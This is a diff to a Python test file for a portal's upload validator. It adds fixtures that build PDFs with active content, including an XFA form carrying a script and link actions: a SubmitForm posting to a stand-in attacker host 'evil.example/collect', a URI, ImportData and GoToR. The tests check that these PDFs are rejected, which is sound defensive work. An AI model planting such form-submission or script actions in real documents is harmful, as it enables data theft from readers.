@@ -15,7 +15,14 @@ from PIL import ExifTags, Image, ImageFile
 from PIL.PngImagePlugin import PngInfo
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript, PageTrigger
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+)
 
 from portal.adapters import uploads
 from portal.adapters.uploads import (
@@ -316,17 +323,62 @@ def active_pdf(kind: str) -> bytes:
         )
     elif kind == "catalog_aa":
         writer.root_object[NameObject("/AA")] = DictionaryObject()
+    elif kind == "xfa_script":
+        xfa = writer._add_object(  # an XML form with its own script, as Acrobat runs it
+            StreamObject.initialize_from_dictionary(
+                {
+                    "/Length": 0,
+                    "__streamdata__": b'<xdp:xdp><template><script contentType="application/'
+                    b'x-javascript">app.alert(1)</script></template></xdp:xdp>',
+                }
+            )
+        )
+        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
+        )
+    elif kind in {"uri", "submit_form", "import_data", "goto_remote"}:
+        action = {
+            "uri": {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example")},
+            "submit_form": {
+                "/S": NameObject("/SubmitForm"),
+                "/F": TextStringObject("https://evil.example/collect"),
+            },
+            "import_data": {"/S": NameObject("/ImportData"), "/F": TextStringObject("x.fdf")},
+            "goto_remote": {"/S": NameObject("/GoToR"), "/F": TextStringObject("other.pdf")},
+        }[kind]
+        link = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
+                NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
+            }
+        )
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
     return pdf(writer)
 
 
-@pytest.mark.parametrize(
-    "kind", ["javascript", "page_aa", "attachment", "launch", "open_action_js", "catalog_aa"]
-)
+ACTIVE = [
+    "javascript",
+    "page_aa",
+    "attachment",
+    "launch",
+    "open_action_js",
+    "catalog_aa",
+    "xfa_script",
+    "uri",
+    "submit_form",
+    "import_data",
+    "goto_remote",
+]
+
+
+@pytest.mark.parametrize("kind", ACTIVE)
 def test_pdf_with_active_content(kind):
     assert rejected(active_pdf(kind), "scan.pdf") == "file_pdf_active"
 
 
-@pytest.mark.parametrize("kind", ["javascript", "page_aa", "attachment", "launch"])
+@pytest.mark.parametrize("kind", ACTIVE)
 def test_active_content_is_found_through_the_pdf_objects_not_only_the_bytes(kind):
     from pypdf import PdfReader
 
